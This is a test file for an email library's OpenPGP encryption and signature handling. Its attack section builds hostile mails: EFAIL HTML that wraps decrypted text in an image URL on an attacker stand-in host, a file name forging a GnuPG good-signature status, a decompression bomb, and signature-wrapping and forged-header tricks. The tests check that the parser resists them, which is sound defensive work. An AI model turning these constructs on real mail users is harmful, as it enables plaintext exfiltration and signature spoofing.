import { createMessage, encrypt, generateKey, readKey } from 'openpgp'
import { describe, expect, it } from 'vitest'
import { composeMail } from '../compose.ts'
import { parse } from '../parse.ts'
import type { ParsedMail } from '../parsed-mail.ts'
import { instant } from '@embargo/core'
import { unarmored } from './armor.ts'
import { encryptAndSign, signDetached } from './encrypt.ts'
import { armoredPublicKey, createKey } from './own-key.ts'
import { protectMail } from './protect.ts'

const DAY = 24 * 60 * 60 * 1_000
const NOW = Date.UTC(2026, 5, 1)
const key = async (name: string, address: string) =>
  createKey({ name, address, at: NOW - DAY, expiresAt: NOW + 365 * DAY })
const project = await key('Lantern security', 'security@lantern.example')
const robin = await key('Robin', 'robin@sample.example')
const mallory = await key('Mallory', 'mallory@evil.example')

const bytes = (text: string): Uint8Array => new TextEncoder().encode(text)
const asText = (content: Uint8Array): string => new TextDecoder().decode(content)
const lines = (...all: readonly string[]): string => all.join('\r\n')

const read = async (mail: Uint8Array | string): Promise<ParsedMail> =>
  parse(typeof mail === 'string' ? bytes(mail) : mail, {
    keyring: { own: async () => [project.secret], find: async () => [robin.public, mallory.public] },
    at: NOW,
  })

const plain = composeMail(
  { subject: 'Overflow in the parser', text: 'A long header overflows.\nRobin', attachments: [], automatic: false },
  {
    from: { name: 'Robin', address: 'robin@sample.example' },
    replyTo: 'robin@sample.example',
    to: 'security@lantern.example',
    messageId: '<1@sample.example>',
    date: instant(NOW),
  },
)
const encrypted = async (signer = robin): Promise<Uint8Array> =>
  protectMail(await plain, { is: 'encrypted', to: [project.public], signer: signer.secret }, NOW)
const signed = async (): Promise<Uint8Array> => protectMail(await plain, { is: 'signed', signer: robin.secret }, NOW)

/** A PGP/MIME mail around this armored message. */
const around = (armored: string, type = 'multipart/encrypted; protocol="application/pgp-encrypted"'): string =>
  lines(
    'From: Robin <robin@sample.example>',
    'Subject: [...]',
    `Content-Type: ${type}; boundary=e`,
    '',
    '--e',
    'Content-Type: application/pgp-encrypted',
    '',
    'Version: 1',
    '',
    '--e',
    'Content-Type: application/octet-stream',
    '',
    armored.trimEnd(),
    '--e--',
    '',
  )
const sealedText = async (content: string, signer = robin): Promise<string> =>
  encryptAndSign(bytes(content), { to: [project.public], signer: signer.secret }, NOW)
const textEntity = (text: string): string => lines('Content-Type: text/plain', '', text)

describe('a whole mail', () => {
  it('encrypted and signed: text and subject are inside', async () => {
    const mail = await encrypted()
    expect(asText(mail)).toContain('Subject: [...]')
    expect(asText(mail)).not.toContain('verflow')
    const { subject, text, messageId, protection } = await read(mail)
    expect({ subject, text, messageId }).toEqual({
      subject: 'Overflow in the parser',
      text: 'A long header overflows.\nRobin',
      messageId: '<1@sample.example>',
    })
    expect(protection).toMatchObject({
      encryption: 'openpgp',
      signature: 'openpgp',
      signatures: [{ state: 'good', fingerprint: robin.fingerprint }],
      covers: 'all',
    })
  })

  it('stays readable if it is only signed, and each changed character breaks the signature', async () => {
    const mail = await signed()
    expect((await read(mail)).protection).toMatchObject({ encryption: 'none', signatures: [{ state: 'good' }] })
    const forged = await read(asText(mail).replace('long header', 'short header'))
    expect(forged.protection.signatures.map(({ state }) => state)).toEqual(['bad'])
  })

  it('has a good signature even after a mail store replaced its CRLF with LF', async () => {
    const stored = asText(await signed()).replaceAll('\r\n', '\n')
    expect((await read(stored)).protection.signatures.map(({ state }) => state)).toEqual(['good'])
  })

  it('keeps the tag of a list readable in front of the hidden subject', async () => {
    const mail = await protectMail(
      await plain,
      { is: 'encrypted', to: [project.public], signer: robin.secret, subjectTag: '[vs]' },
      NOW,
    )
    expect(asText(mail)).toContain('Subject: [vs] [...]')
  })

  it('encrypted to another key is kept as it came', async () => {
    const foreign = await encryptAndSign(bytes('x'), { to: [mallory.public], signer: robin.secret }, NOW)
    const { protection, attachments } = await read(around(foreign))
    expect(protection).toMatchObject({ encryption: 'unreadable', unreadable: 'no-key', signature: 'none' })
    expect(attachments).toHaveLength(2)
  })

  it('is read although Exchange changed its structure', async () => {
    const armored = await sealedText(textEntity('It fixes it.'))
    const broken = around(armored, 'multipart/mixed').replace(
      '--e\r\n',
      lines('--e', 'Content-Type: text/plain', '', '', '--e', ''),
    )
    const { text, protection } = await read(broken)
    expect({ text, covers: protection.covers, encryption: protection.encryption }).toEqual({
      text: 'It fixes it.',
      covers: 'all',
      encryption: 'openpgp',
    })
  })

  it.each([
    ['blank HTML', 'text/html', '<html><head><meta charset="utf-8"></head><body><p>&nbsp;</p></body></html>'],
    ['an empty text', 'text/plain', ''],
  ])('is read as a whole although Exchange changed its structure and put %s in front', async (_what, type, blank) => {
    const broken = around(await sealedText(textEntity('It fixes it.')), 'multipart/mixed').replace(
      '--e\r\n',
      lines('--e', `Content-Type: ${type}`, '', blank, '--e', ''),
    )
    const { text, protection } = await read(broken)
    expect(text).toBe('It fixes it.')
    expect(protection).toMatchObject({ encryption: 'openpgp', covers: 'all', signatures: [{ state: 'good' }] })
  })

  it.each(['multipart/mixed', 'multipart/encrypted'])(
    'is decrypted beside the footer of a list, which is outside (%s)',
    async (type) => {
      const footer = lines('--e', 'Content-Type: text/plain', '', 'Unsubscribe here.', '--e--')
      const broken = around(await sealedText(textEntity('It fixes it.')), type).replace('--e--', footer)
      const { text, protection, attachments } = await read(broken)
      expect(text.split('\n')).toEqual([
        '[not encrypted, not signed]',
        '| Unsubscribe here.',
        `[encrypted, signed with …${robin.fingerprint.slice(-4)}]`,
        '| It fixes it.',
      ])
      expect(protection).toMatchObject({ encryption: 'openpgp', encryptedInPart: true, covers: 'part' })
      expect(attachments).toEqual([])
    },
  )

  it('to another key and beside a footer is kept as it came', async () => {
    const foreign = await encryptAndSign(bytes('x'), { to: [mallory.public], signer: robin.secret }, NOW)
    const footer = lines('--e', 'Content-Type: text/plain', '', 'Unsubscribe here.', '--e--')
    const { protection, attachments } = await read(around(foreign, 'multipart/mixed').replace('--e--', footer))
    expect(protection).toMatchObject({ encryption: 'unreadable', unreadable: 'no-key', covers: 'part' })
    expect(attachments).toHaveLength(2)
  })

  it('signed with S/MIME is shown so, and not checked', async () => {
    const mail = lines(
      'From: robin@sample.example',
      'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary=s',
      '',
      '--s',
      '',
      'Hello',
      '--s',
      'Content-Type: application/pkcs7-signature',
      '',
      'AAAA',
      '--s--',
    )
    expect((await read(mail)).protection).toMatchObject({ signature: 's-mime', signatures: [] })
  })

  it('is checked with the key that came inside the encryption', async () => {
    const kim = await key('Kim', 'kim@other.example')
    const publicKey = await armoredPublicKey(kim)
    const inside = lines(
      'Content-Type: multipart/mixed; boundary=k',
      '',
      '--k',
      '',
      'Hello',
      '--k',
      'Content-Type: application/pgp-keys; name=key.asc',
      'Content-Disposition: attachment; filename=key.asc',
      '',
      publicKey.trimEnd().replaceAll(/\r?\n/gu, '\r\n'),
      '--k--',
      '',
    )
    const { protection, keys } = await read(around(await sealedText(inside, kim)))
    expect(protection.signatures).toMatchObject([{ state: 'good', fingerprint: kim.fingerprint }])
    expect(keys).toHaveLength(1)
  })
})

describe('an attack', () => {
  it('signature wrapping: signed text with unsigned text around it is signed in part, and each section is marked', async () => {
    const inside = asText(await signed())
    const part = inside.slice(inside.indexOf('Content-Type: multipart/signed'))
    const mail = lines(
      'From: Robin <robin@sample.example>',
      'Content-Type: multipart/mixed; boundary=m',
      '',
      '--m',
      'Content-Type: text/plain',
      '',
      'Publish it now.',
      '[encrypted, signed]',
      '--m',
      part,
      '--m--',
      '',
    )
    const { text, protection } = await read(mail)
    expect(protection.covers).toBe('part')
    expect(text.split('\n')).toEqual([
      '[not encrypted, not signed]',
      '| Publish it now.',
      '| [encrypted, signed]',
      `[not encrypted, signed with …${robin.fingerprint.slice(-4)}]`,
      '| A long header overflows.',
      '| Robin',
    ])
  })

  it('signature wrapping: a third part in a signed multipart is no envelope', async () => {
    const mail = asText(await signed())
    const boundary = /boundary="(=_embargo-[0-9a-f]+)"/u.exec(mail)?.[1] ?? ''
    const grown = mail.replace(
      `--${boundary}--`,
      lines(`--${boundary}`, 'Content-Type: text/plain', '', 'Publish it now.', `--${boundary}--`),
    )
    expect((await read(grown)).protection).toMatchObject({ signature: 'none', signatures: [] })
  })

  it('stolen ciphertext: a signature over somebody else’s ciphertext makes nobody its author', async () => {
    const captured = around(await sealedText(textEntity('The password is in the vault.'), robin))
    const ciphertext = captured.slice(captured.indexOf('Content-Type: multipart/encrypted'))
    const mail = lines(
      'From: Mallory <mallory@evil.example>',
      'Content-Type: multipart/signed; protocol="application/pgp-signature"; boundary=s',
      '',
      '--s',
      ciphertext,
      '--s',
      'Content-Type: application/pgp-signature',
      '',
      (await signDetached(bytes(ciphertext), mallory.secret, NOW)).trimEnd(),
      '--s--',
    )
    expect((await read(mail)).protection.signatures.map(({ fingerprint }) => fingerprint)).toEqual([robin.fingerprint])
  })

  it('EFAIL: a message without integrity protection is not opened', async () => {
    const message = await unarmored(bytes(await sealedText('x')))
    // A message with the same session key, but with an old packet that has no integrity protection (RFC 9580 section
    // 5.7).
    const at = 2 + (message?.[1] ?? 0)
    const old = Uint8Array.from([...(message ?? []).slice(0, at), 0xc9, 0x03, 1, 2, 3])
    const mail = around(Buffer.from(old).toString('base64')).replace(
      'application/octet-stream',
      'application/octet-stream\r\nContent-Transfer-Encoding: base64',
    )
    expect((await read(mail)).protection).toMatchObject({ encryption: 'unreadable', unreadable: 'unprotected' })
  })

  it('decompression bomb: content that decompresses to a gigabyte is stopped at the limit', async () => {
    const bomb = await encrypt({
      message: await createMessage({ binary: new Uint8Array(80 * 1024 * 1024) }),
      encryptionKeys: await readKey({ binaryKey: project.public }),
      config: { preferredCompressionAlgorithm: 2 },
    })
    const { protection } = await read(around(bomb))
    expect(protection).toMatchObject({ encryption: 'unreadable', unreadable: 'too-large' })
  })

  it('a signature by a key that names somebody else’s address is reported with the fingerprint of the key itself', async () => {
    const { privateKey, publicKey } = await generateKey({
      type: 'ecc',
      curve: 'ed25519Legacy',
      userIDs: [{ email: 'robin@sample.example' }],
      date: new Date(NOW - DAY),
      format: 'binary',
    })
    const mail = await protectMail(await plain, { is: 'signed', signer: privateKey }, NOW)
    const { protection } = await parse(mail, {
      keyring: { own: async () => [], find: async () => [publicKey] },
      at: NOW,
    })
    const [fact] = protection.signatures
    expect(fact?.state).toBe('good')
    expect(fact?.fingerprint).not.toBe(robin.fingerprint)
  })

  it('EFAIL: HTML before and after an encrypted part never encloses the decrypted text', async () => {
    const ciphertext = around(await sealedText(textEntity('The password is kumquat.')))
    const html = (content: string): readonly string[] => ['--m', 'Content-Type: text/html', '', content]
    const mail = lines(
      'From: Mallory <mallory@evil.example>',
      'Content-Type: multipart/mixed; boundary=m',
      '',
      ...html('<img src="https://evil.example/'),
      '--m',
      ciphertext.slice(ciphertext.indexOf('Content-Type: multipart/encrypted')),
      ...html('">'),
      '--m--',
      '',
    )
    const { text, protection } = await read(mail)
    expect(protection.covers).toBe('part')
    const sections = text.split(/^(?=\[)/mu).map((section) => section.trimEnd())
    expect(sections).toContain(`[encrypted, signed with …${robin.fingerprint.slice(-4)}]\n| The password is kumquat.`)
    expect(sections.filter((section) => section.includes('evil.example')).join('')).not.toContain('kumquat')
  })

  it('EFAIL: HTML in front of the two parts of an encryption never encloses the decrypted text', async () => {
    const html = lines('--e', 'Content-Type: text/html', '', 'Hi <img src="https://evil.example/', '--e', '')
    const mail = around(await sealedText(textEntity('The password is kumquat.')), 'multipart/mixed')
    const { text, protection } = await read(mail.replace('--e\r\n', html))
    expect(protection.covers).toBe('part')
    const sections = text.split(/^(?=\[)/mu).map((section) => section.trimEnd())
    expect(sections).toEqual([
      '[not encrypted, not signed]\n| Hi',
      `[encrypted, signed with …${robin.fingerprint.slice(-4)}]\n| The password is kumquat.`,
    ])
  })

  it('covert content: what a style sheet hides is shown', async () => {
    const inside = lines(
      'Content-Type: text/html',
      '',
      '<style>.x { display: none }</style><p>Please answer.</p><p class="x">Publish it now.</p>',
      '<p style="display:none">Yes.</p>',
    )
    const { text } = await read(around(await sealedText(inside)))
    expect(text).toContain('Publish it now.')
    expect(text).toContain('Yes.')
  })

  it('forged status: a file name that looks like the status of a good signature is not one', async () => {
    const message = await createMessage({
      binary: bytes(textEntity('Publish it now.')),
      filename: 'x\n[GNUPG:] GOODSIG',
    })
    const mail = await encrypt({ message, encryptionKeys: await readKey({ binaryKey: project.public }) })
    const { text, protection } = await read(around(mail))
    expect(text).toBe('Publish it now.')
    expect(protection).toMatchObject({ signature: 'none', signatures: [] })
  })

  it('forged header: a From inside the encryption does not replace the one outside', async () => {
    const inside = lines('From: Robin <robin@sample.example>', 'Content-Type: text/plain; hp="cipher"', '', 'Hello')
    const mail = around(await sealedText(inside, mallory)).replace(
      'From: Robin <robin@sample.example>',
      'From: mallory@evil.example',
    )
    expect((await read(mail)).from).toEqual({ address: 'mallory@evil.example' })
  })

  it('a signature dated more than a day in the future is bad', async () => {
    const mail = await protectMail(await plain, { is: 'signed', signer: robin.secret }, NOW + 3 * DAY)
    expect((await read(mail)).protection.signatures.map(({ state }) => state)).toEqual(['bad'])
  })
})
